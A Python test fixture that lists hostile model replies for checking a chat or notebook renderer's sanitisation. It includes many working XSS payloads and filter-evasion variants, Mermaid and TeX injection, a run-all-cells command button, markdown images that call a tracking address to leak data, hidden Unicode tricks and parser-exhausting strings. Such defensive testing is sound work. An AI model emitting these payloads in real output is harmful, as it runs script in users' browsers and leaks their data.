"""Replies of a hostile model: each tries to load, run, hide or overflow something."""

from __future__ import annotations

from collections.abc import Iterator

# `{T}` is an address that records every request; `{J}` is a script that leaves a trace.
HTML = [
    "<script>{J}</script>",
    "<script src='{T}/script.js'></script>",
    '<img src={T}/img.png onerror="{J}">',
    "<IMG SRC=x OnErRoR={J}>",
    "<img src='data:image/svg+xml,<svg onload={J}>' onload=\"{J}\">",
    "<svg onload={J}><image href='{T}/svg.png'/></svg>",
    "<iframe src={T}/frame srcdoc='<script>parent.{J}</script>'></iframe>",
    "<object data={T}/object></object><embed src={T}/embed>",
    "<video src={T}/video autoplay></video><audio src={T}/audio autoplay></audio>",
    "<link rel=stylesheet href={T}/style.css><style>@import '{T}/import.css';</style>",
    '<div style="background:url({T}/background.png)">text</div>',
    '<div style="position:fixed;inset:0;background:red">over everything</div>',
    '<form action={T}/form><button autofocus onfocus="{J}">press</button></form>',
    '<details open ontoggle="{J}"><summary>unfold</summary></details>',
    '<math><mtext></mtext><mglyph><style></math><img src={T}/math.png onerror="{J}">',
    "<a href='javascript:{J}'>press</a>",
    "<meta http-equiv=refresh content='0;url={T}/refresh'><base href={T}/base/>",
    "<scr<script>ipt>{J}</scr</script>ipt>",
    '<!--><img src={T}/comment.png onerror="{J}">-->',
    "<![CDATA[><img src={T}/cdata.png>]]><?xml><img src={T}/pi.png>?>",
    "&lt;img src={T}/entity.png onerror={J}&gt; &#60;script>{J}&#60;/script>",
    "<img/src={T}/slash.png/onerror={J}>",
    "\\<img src={T}/escaped.png onerror={J}> \\\\<img src={T}/twice.png onerror={J}>",
    "<button data-commandlinker-command='notebook:run-all-cells'>press</button>",
]
MARKDOWN = [
    "![a picture]({T}/picture.png?secret=1)",
    '![a picture](<{T}/angle.png> "title")',
    "![a\npicture]({T}/lines.png)",
    "!\\[a]({T}/escaped.png) !&#91;a]({T}/entity.png)",
    "[![linked]({T}/linked.png)]({T}/link)",
    "![by reference][ref]\n\n[ref]: {T}/reference.png",
    "![ref2][]\n\n[ref2]: <{T}/reference2.png> 'x'",
    "![ref3]\n\n[ref3]:\n{T}/reference3.png",
    "> ![quoted]({T}/quoted.png)\n\n- ![listed]({T}/listed.png)\n\n| ![cell]({T}/cell.png) |\n|-|",
    "# ![title]({T}/title.png)\n\n*![emphasised]({T}/em.png)* ~~![gone]({T}/del.png)~~",
    "```\ncode\n```\n![after code]({T}/after.png)\n~~~\n![in code]({T}/in.png)\n~~~",
    "`a\n` ![between]({T}/between.png) `b`",
    "[press](javascript:{J})",
    "[press](JaVaScRiPt&colon;{J})",
    "[press](java&#10;script:{J})",
    "[press](&#106;avascript:{J}) [press](%6aavascript:{J})",
    "[press]( \n javascript:{J})",
    "[press](\x01javascript:{J}) [press](java\u200bscript:{J})",
    "[press](vbscript:msgbox(1)) [press](data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+)",
    "[press][js]\n\n[js]: javascript:{J}",
    "[js2]: <javascript:{J}>\n\n[press][js2]",
    "<javascript:{J}> <data:text/html,{J}> <vbscript:{J}>",
    "[press](//example.org/protocol) [press](\\\\example.org) [press](/lab/api/settings)",
    "[a](https://example.org/\"onmouseover=\"{J}) [a](https://e.org 'x' onclick={J})",
    "[`a`](javascript:{J}) [**b**](javascript:{J}) [a\\](javascript:{J})",
    (
        "```mermaid\ngraph TD\n A[<img src={T}/mermaid.png onerror={J}>] --> B\n"
        ' click B href "javascript:{J}"\n```'
    ),
    (
        "```mermaid\n%%{init: {'themeCSS': 'a{background:url({T}/theme.png)}',"
        " 'securityLevel': 'loose'}}%%\n"
        'graph TD\n A["$$\\includegraphics{{T}/katex.png}$$"] --> B\n```'
    ),
    "- a\n\n  ```Mermaid {x}\n  graph TD\n   A[<img src={T}/listed-mermaid.png>] --> B\n  ```",
    "```merm&#97;id\ngraph TD\n A[<img src={T}/disguised.png>] --> B\n```",
    '~~~ mermaid\ngraph TD\n A@{ img: "{T}/node.png", label: "x" }\n~~~',
    "```html\n<img src={T}/fence.png onerror={J}>\n```",
    "```<img src={T}/info.png>\ncode\n```",
]
TEX = [
    "$\\href{javascript:{J}}{x}$ and $$\\href{javascript:{J}}{x}$$",
    "$\\style{background:url({T}/style.png)}{x}$ $\\bbox[background:url({T}/bbox.png)]{x}$",
    "$\\require{html}\\class{jp-Button}{x}\\cssId{main}{y}$ $\\data{x=1}{z}$",
    '$\\mmlToken{mi}[href="javascript:{J}" style="background:url({T}/mml.png)"]{x}$',
    "$\\includegraphics{{T}/tex.png}$ $\\url{{T}/url}$ $\\unicode[{T}]{65}$",
    "&#36;\\href{javascript:{J}}{x}&#36; &#36;\\\\href{javascript:{J}}{x}&#36;",
    "&#36;\\&#104;ref{javascript:{J}}{x}&#36; &#36;&#92;href{javascript:{J}}{x}&#36;",
    "&#36;&bsol;style{background:url({T}/bsol.png)}{x}&#36;",
    "\\(\\href{javascript:{J}}{x}\\) \\\\(\\href{javascript:{J}}{x}\\\\)",
    "\\begin{align}\\href{javascript:{J}}{x}\\end{align}",
    (
        "$\\def\\alpha{\\text{changed}}\\gdef\\beta{\\text{changed}}$ "
        "$\\renewcommand{\\gamma}{\\text{changed}}\\let\\delta=\\alpha$"
    ),
    "$x<img src={T}/lt.png onerror={J}>$ $$\n<img src={T}/display.png>\n$$",
    "$\\text{<img src={T}/text.png>}$ $\\tooltip{x}{<img src={T}/tip.png>}$",
]
HIDDEN = [
    "\x1b[31mred\x1b[0m \x1b]8;;{T}/osc\x07link\x1b]8;;\x07 \x1b[2J\x1b[H \x9b31m",
    "safe \u202etxt.exe\u202c \u2066isolated\u2069 \u200fmark",
    "in\u200bvis\u2060ible\ufeff a\u00adb \U000e0049\U000e0047\U000e004e\U000e004f\U000e0052",
    "\ud800 lone \udfff surrogates, a pair in two halves: \ud83d\ude00",
    "\x00\x07\x08\x0b\x0c\x7f controls\r\nlines\u2028and\u2029more",
    "combining: " + "e" + "\u0301" * 5000,
]
LARGE = [
    "[" * 1_000_000,
    "![" * 500_000,
    "a" * 5_000_000,
    "*a " * 100_000,
    "<img src={T}/many.png> " * 10_000,
    "$" * 300_000 + "\\begin{a}" * 50_000,
    "`" * 300_000 + "\n" + "> " * 100_000,
    " ".join("`" * n for n in range(400)),
    "| a " * 30_000 + "|\n" + "|-" * 30_000 + "|",
]
WITNESS = ["$\\alpha\\beta\\gamma\\delta$"]
KINDS = {
    "html": HTML,
    "markdown": MARKDOWN,
    "tex": TEX,
    "hidden": HIDDEN,
    "witness": WITNESS,
    "large": LARGE,
}
MARK = "window.attacked=true"


def replies(tracker: str, *kinds: str) -> Iterator[str]:
    """The replies of these kinds, with this tracking address."""
    for kind in kinds:
        for text in KINDS[kind]:
            yield text.replace("{T}", tracker).replace("{J}", MARK)
